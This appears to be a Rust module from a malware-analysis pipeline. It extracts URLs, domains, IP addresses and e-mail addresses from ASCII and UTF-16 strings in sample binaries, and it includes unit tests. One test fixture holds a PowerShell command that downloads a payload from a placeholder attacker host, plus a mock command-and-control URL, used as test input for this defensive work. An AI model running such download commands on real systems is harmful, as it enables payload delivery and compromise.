//! Indicators in a sample's text: URLs, domains, IPv4 addresses and e-mail
//! addresses, from ASCII and UTF-16LE runs (Windows binaries store many
//! strings as UTF-16). Deduplicated, capped, sorted.

use std::collections::BTreeSet;

use intake::analysis::{AnalyseError, Analyser};
use intake::store::queue::SampleJob;

pub struct Strings;

/// Most indicators of one kind kept.
const MAX_EACH: usize = 500;
/// Shortest run of printable characters considered.
const MIN_RUN: usize = 6;

/// Top-level domains a bare domain must end in to count (the common ones;
/// keeps "file.dll" and "kernel32.dll" out).
const TLDS: &[&str] = &[
    "com", "net", "org", "info", "biz", "io", "ru", "cn", "de", "uk", "fr", "br", "in", "jp",
    "xyz", "top", "online", "site", "club", "pw", "tk", "su", "co", "me", "tv", "cc", "us", "eu",
    "nl", "it", "es", "pl", "kr", "tw", "hk", "ir", "onion", "example", "invalid",
];

#[derive(Debug, Default, PartialEq, Eq)]
pub struct Indicators {
    pub urls: BTreeSet<String>,
    pub domains: BTreeSet<String>,
    pub ips: BTreeSet<String>,
    pub emails: BTreeSet<String>,
}

fn printable(b: u8) -> bool {
    (0x20..0x7f).contains(&b)
}

/// Calls `f` with every printable run of at least MIN_RUN characters: ASCII
/// runs as slices of `bytes` (no copy: most of a binary is not text), then
/// UTF-16LE runs at either alignment.
fn runs(bytes: &[u8], mut f: impl FnMut(&str)) {
    for (s, e) in ascii_runs(bytes) {
        f(ascii(&bytes[s..e]));
    }
    // UTF-16LE: a printable byte followed by a zero byte. Every such
    // character ends in a zero, so only the zeros are visited (few, in the
    // binary parts of a file), each at its alignment's run.
    let mut open: [Option<(usize, usize)>; 2] = [None, None]; // (first, last) char
    let emit = |first: usize, last: usize, f: &mut dyn FnMut(&str)| {
        if (last - first) / 2 + 1 >= MIN_RUN {
            let run: String = (first..=last)
                .step_by(2)
                .map(|i| bytes[i] as char)
                .collect();
            f(&run);
        }
    };
    for z in memchr::memchr_iter(0, bytes) {
        let Some(c) = z.checked_sub(1) else {
            continue;
        };
        if !printable(bytes[c]) {
            continue;
        }
        let slot = &mut open[c % 2];
        match *slot {
            Some((first, last)) if last + 2 == c => *slot = Some((first, c)),
            Some((first, last)) => {
                emit(first, last, &mut f);
                *slot = Some((c, c));
            }
            None => *slot = Some((c, c)),
        }
    }
    for (first, last) in open.into_iter().flatten() {
        emit(first, last, &mut f);
    }
}

/// The `(start, end)` of every printable ASCII run of at least MIN_RUN
/// bytes. A run that long must cover the byte MIN_RUN - 1 ahead, so where
/// that byte is not printable the scan jumps MIN_RUN bytes at once: binary
/// parts cost a sixth of a byte-by-byte scan.
fn ascii_runs(bytes: &[u8]) -> Vec<(usize, usize)> {
    let n = bytes.len();
    let mut out = Vec::new();
    // Invariant: `i` is 0 or `bytes[i - 1]` is not printable.
    let mut i = 0;
    while i + MIN_RUN <= n {
        let probe = i + MIN_RUN - 1;
        if !printable(bytes[probe]) {
            i = probe + 1;
            continue;
        }
        let mut s = probe;
        while s > i && printable(bytes[s - 1]) {
            s -= 1;
        }
        let mut e = probe + 1;
        while e < n && printable(bytes[e]) {
            e += 1;
        }
        if e - s >= MIN_RUN {
            out.push((s, e));
        }
        i = e + 1;
    }
    out
}

/// A run of printable ASCII as text (always valid UTF-8).
fn ascii(run: &[u8]) -> &str {
    std::str::from_utf8(run).unwrap_or("")
}

fn is_ipv4(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

fn is_domain(s: &str) -> bool {
    let labels: Vec<&str> = s.split('.').collect();
    labels.len() >= 2
        && s.len() <= 253
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && !l.starts_with('-')
                && !l.ends_with('-')
                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
        && labels
            .last()
            .is_some_and(|t| TLDS.contains(&t.to_ascii_lowercase().as_str()))
}

/// Extracts the indicators in `bytes`.
pub fn extract(bytes: &[u8]) -> Indicators {
    let mut ind = Indicators::default();
    runs(bytes, |run| {
        for token in run.split(|c: char| c.is_whitespace() || "\"'<>()[]{},;|`^".contains(c)) {
            let token = token.trim_end_matches(['.', ':', '!', '?']);
            // Every indicator holds a dot, an @ or a scheme's colon; most
            // tokens of a binary hold none, and are dropped before any work.
            if !token.bytes().any(|b| matches!(b, b'.' | b'@' | b':')) {
                continue;
            }
            // A URL can follow other characters in a run ("ehttps://" where a
            // string's last letter meets the next one): start at the scheme.
            let lower0 = token.to_ascii_lowercase();
            let scheme = ["https://", "http://", "ftp://"]
                .iter()
                .filter_map(|s| lower0.find(s))
                .min();
            let token = scheme.map_or(token, |p| &token[p..]);
            let lower = token.to_ascii_lowercase();
            if scheme.is_some() {
                if ind.urls.len() < MAX_EACH {
                    ind.urls.insert(token.to_owned());
                }
                let host = token
                    .split("://")
                    .nth(1)
                    .unwrap_or("")
                    .split(['/', ':', '?', '#'])
                    .next()
                    .unwrap_or("");
                let host = host.rsplit('@').next().unwrap_or(host);
                if is_ipv4(host) && ind.ips.len() < MAX_EACH {
                    ind.ips.insert(host.to_owned());
                } else if is_domain(host) && ind.domains.len() < MAX_EACH {
                    ind.domains.insert(host.to_ascii_lowercase());
                }
            } else if let Some((user, host)) = token.split_once('@') {
                if !user.is_empty()
                    && user
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "._%+-".contains(c))
                    && is_domain(host)
                    && ind.emails.len() < MAX_EACH
                {
                    ind.emails.insert(token.to_ascii_lowercase());
                }
            } else if is_ipv4(token) {
                if ind.ips.len() < MAX_EACH {
                    ind.ips.insert(token.to_owned());
                }
            } else if is_domain(token) && ind.domains.len() < MAX_EACH {
                ind.domains.insert(lower);
            }
        }
    });
    ind
}

impl Analyser for Strings {
    fn name(&self) -> &'static str {
        "strings"
    }
    fn version(&self) -> String {
        "1".to_owned()
    }
    fn analyse(&self, bytes: &[u8], _job: &SampleJob) -> Result<serde_json::Value, AnalyseError> {
        let i = extract(bytes);
        Ok(
            serde_json::json!({ "urls": i.urls, "domains": i.domains, "ips": i.ips, "emails": i.emails }),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_indicators_in_ascii_and_utf16() {
        let mut data = b"\x00\x01powershell -c iwr http://evil.example/payload.bin; ping 10.0.0.5; mail bob@acme.example\x00".to_vec();
        data.extend(
            "https://c2.example.ru:8443/gate.php"
                .encode_utf16()
                .flat_map(u16::to_le_bytes),
        );
        data.extend(b"\x00\x00kernel32.dll user32.dll 999.1.1.1 a.b\x00");
        let i = extract(&data);
        assert!(i.urls.contains("http://evil.example/payload.bin"));
        assert!(i.urls.contains("https://c2.example.ru:8443/gate.php"));
        assert!(i.domains.contains("evil.example"));
        assert!(i.domains.contains("c2.example.ru"));
        assert!(i.ips.contains("10.0.0.5"));
        assert!(i.emails.contains("bob@acme.example"));
        assert!(!i.domains.iter().any(|d| d.ends_with(".dll")));
        assert!(!i.ips.contains("999.1.1.1"));
    }

    /// The skipping scan finds exactly the runs a byte-by-byte scan finds.
    #[test]
    fn ascii_runs_match_the_plain_scan() {
        let plain = |b: &[u8]| {
            let mut out = Vec::new();
            let mut start = None;
            for (i, &c) in b.iter().enumerate() {
                match (printable(c), start) {
                    (true, None) => start = Some(i),
                    (false, Some(s)) => {
                        if i - s >= MIN_RUN {
                            out.push((s, i));
                        }
                        start = None;
                    }
                    _ => {}
                }
            }
            if let Some(s) = start.filter(|s| b.len() - s >= MIN_RUN) {
                out.push((s, b.len()));
            }
            out
        };
        let mut state = 0x1234_5678_9abc_def1u64;
        for round in 0..400 {
            let len = round % 97 + round;
            // From mostly binary to mostly text.
            let text_share = (round % 10) as u64;
            let data: Vec<u8> = (0..len)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    if state % 10 < text_share {
                        b'a' + (state % 26) as u8
                    } else {
                        (state >> 8) as u8 % 32
                    }
                })
                .collect();
            assert_eq!(ascii_runs(&data), plain(&data), "{data:?}");
        }
        assert_eq!(ascii_runs(b"abcdef"), vec![(0, 6)]);
        assert_eq!(ascii_runs(b"abcde"), vec![]);
        assert_eq!(ascii_runs(b"\0abcdef\0abcdefg"), vec![(1, 7), (8, 15)]);
    }

    #[test]
    fn binary_noise_yields_nothing() {
        let noise: Vec<u8> = (0..10_000u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
            .collect();
        let i = extract(&noise);
        assert!(i.urls.is_empty() && i.emails.is_empty());
    }
}
